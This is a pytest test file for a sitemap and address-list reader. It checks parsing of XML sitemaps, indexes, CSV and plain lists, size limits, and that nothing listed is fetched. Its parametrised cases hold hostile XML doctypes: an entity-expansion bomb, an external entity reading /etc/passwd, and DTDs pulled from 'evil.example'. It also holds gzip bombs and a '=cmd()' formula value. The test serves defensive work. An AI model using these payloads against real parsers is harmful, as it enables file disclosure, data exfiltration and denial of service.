"""Lists of addresses are foreign files: read within bounds, whatever they hold, and nothing they name is fetched."""

from __future__ import annotations

import csv
import gzip

import pytest

from articles.findings import RefusedFile
from articles.formats import address_lists
from articles.formats.address_lists import collect, read_addresses

URLSET = (
    '<?xml version="1.0" encoding="utf-8"?>\n<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"'
    ' xmlns:image="http://www.google.com/schemas/sitemap-image/1.1">\n'
    "<url><loc> https://old.example/a/?x=1&amp;y=2 </loc><lastmod>2025-01-01</lastmod>"
    "<image:image><image:loc>https://old.example/a.png</image:loc></image:image></url>\n"
    "<url><loc>https://old.example/%E8%A8%98/</loc></url><url><loc>https://old.example/記/</loc></url><url><loc></loc></url></urlset>"
)
INDEX = (
    '<s:sitemapindex xmlns:s="http://www.sitemaps.org/schemas/sitemap/0.9">'
    "<s:sitemap><s:loc>https://old.example/sitemap-1.xml.gz</s:loc></s:sitemap>"
    "<s:sitemap><s:loc>https://old.example/sub/sitemap-2.xml?x=1</s:loc></s:sitemap></s:sitemapindex>"
)


def refusal(data: bytes | str, name: str = "list") -> str:
    with pytest.raises(RefusedFile) as caught:
        read_addresses(data.encode() if isinstance(data, str) else data, name)
    assert name in caught.value.finding.message
    return caught.value.finding.code


def test_a_sitemap_names_pages_and_pictures() -> None:
    wanted = [
        "https://old.example/a/?x=1&y=2",
        "https://old.example/a.png",
        "https://old.example/%E8%A8%98/",
        "https://old.example/記/",
    ]
    for data in (URLSET.encode(), gzip.compress(URLSET.encode()), b"\xef\xbb\xbf" + URLSET.encode()):
        assert read_addresses(data, "sitemap.xml").addresses == wanted
    utf16 = URLSET.replace("utf-8", "utf-16").encode("utf-16")
    assert read_addresses(utf16, "sitemap.xml").addresses == wanted


def test_an_index_names_further_sitemaps_and_is_never_followed_over_the_network() -> None:
    found = read_addresses(INDEX.encode(), "index.xml")
    assert found.children == ["https://old.example/sitemap-1.xml.gz", "https://old.example/sub/sitemap-2.xml?x=1"]
    addresses, findings = collect([("index.xml", INDEX.encode()), ("Sitemap-1.xml", URLSET.encode())])
    assert len(addresses) == 4
    assert [(finding.code, finding.params["child"]) for finding in findings] == [
        ("sitemap-missing", "https://old.example/sub/sitemap-2.xml?x=1")
    ]
    with pytest.raises(RefusedFile) as caught:
        collect([("index.xml", INDEX.encode())])
    assert caught.value.finding.code == "sitemap-missing"


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE urlset [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>',
        '<!DOCTYPE urlset [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE urlset SYSTEM "http://evil.example/x.dtd">',
        '<!DOCTYPE urlset [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>',
        "<!DOCTYPE urlset>",
    ],
)
def test_a_document_type_is_refused_before_anything_of_it_is_read(doctype: str) -> None:
    assert refusal(f"{doctype}<urlset><url><loc>&c;</loc></url></urlset>") == "sitemap-doctype"


def test_what_is_no_sitemap_says_what_is_wrong(monkeypatch: pytest.MonkeyPatch) -> None:
    assert refusal("<html><body></body></html>") == "not-a-sitemap"
    assert refusal("<urlset><url>") == "sitemap-broken"
    assert refusal("<urlset><url><loc>&nbsp;</loc></url></urlset>") == "sitemap-broken"
    assert refusal('<?xml version="1.0" encoding="no-such"?><urlset/>') == "sitemap-broken"
    assert refusal("<urlset>" + "<a>" * 20) == "sitemap-broken"
    assert refusal("<urlset></urlset>") == "no-addresses"
    assert refusal("") == "no-addresses"
    assert refusal(b"\x1f\x8b\x08\x00cut") == "list-broken"
    assert refusal(gzip.compress(b"/a/\n" * 100)[:-9]) == "list-broken"
    assert refusal(b"/a/\n\x00\x01\xff\xfe/") == "list-broken"


def test_size_and_number_are_bounded_and_a_bomb_is_not_unpacked(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(address_lists, "MAX_BYTES", 10_000)
    monkeypatch.setattr(address_lists, "MAX_ADDRESSES", 50)
    assert refusal(gzip.compress(b"/a/\n" * 1_000_000)) == "list-too-large"
    assert refusal(b"/a/\n" * 5000) == "list-too-large"
    assert refusal("".join(f"/{number}/\n" for number in range(60))) == "list-too-long"
    many = "".join(f"<url><loc>/{number}/</loc></url>" for number in range(60))
    assert refusal(f"<urlset>{many}</urlset>") == "list-too-long"
    with pytest.raises(RefusedFile) as caught:
        collect([(str(part), "".join(f"/{part}/{number}/\n" for number in range(30)).encode()) for part in range(2)])
    assert caught.value.finding.code == "list-too-long"
    long = read_addresses(f"<urlset><url><loc>/{'a' * 9000}</loc></url></urlset>".encode(), "list").addresses[0]
    assert len(long) <= 9001


@pytest.mark.parametrize(
    ("text", "wanted"),
    [
        ("/a/\n\n# note\n https://old.example/b/ \n/a/\n", ["/a/", "https://old.example/b/"]),
        ("/a,b/\n/c/\n", ["/a,b/", "/c/"]),
        ('title,url,date\n題,/a/,2025\n"x, y",https://old.example/b/,2025\n', ["/a/", "https://old.example/b/"]),
        ("\ufeffアドレス;題\n/a/;x\n", ["/a/"]),
        ("Page\tViews\n/a/\t12\n/b/\t9\n", ["/a/", "/b/"]),
        ("12\t/a/\n9\t/b/\n", ["/a/", "/b/"]),
        ('"/a/","x"\n"=cmd()","y"\n', ["/a/", "=cmd()"]),
    ],
)
def test_a_table_and_plain_lines_are_told_apart_by_what_is_in_them(text: str, wanted: list[str]) -> None:
    assert read_addresses(text.encode(), "list.csv").addresses == wanted


def test_a_table_in_a_japanese_encoding_is_read() -> None:
    assert read_addresses("住所,題\n/記事/,春の話\n".encode("cp932"), "list.csv").addresses == ["/記事/"]


@pytest.mark.parametrize("limit", [131_072, 1_000_000])
def test_a_broken_table_is_refused_with_its_row_whatever_others_set_in_the_process(limit: int) -> None:
    before = csv.field_size_limit(limit)
    try:
        with pytest.raises(RefusedFile) as caught:
            read_addresses(('url,x\n/a/,1\n/b/,"' + "x" * 200_000 + '"\n').encode(), "list.csv")
    finally:
        csv.field_size_limit(before)
    assert caught.value.finding.code == "list-broken"
    assert caught.value.finding.line


def test_one_bad_file_of_several_is_named_and_the_others_are_read() -> None:
    addresses, findings = collect([("good.txt", b"/a/\n"), ("bad.xml", b"<html/>")])
    assert addresses == ["/a/"]
    assert [finding.code for finding in findings] == ["not-a-sitemap"]
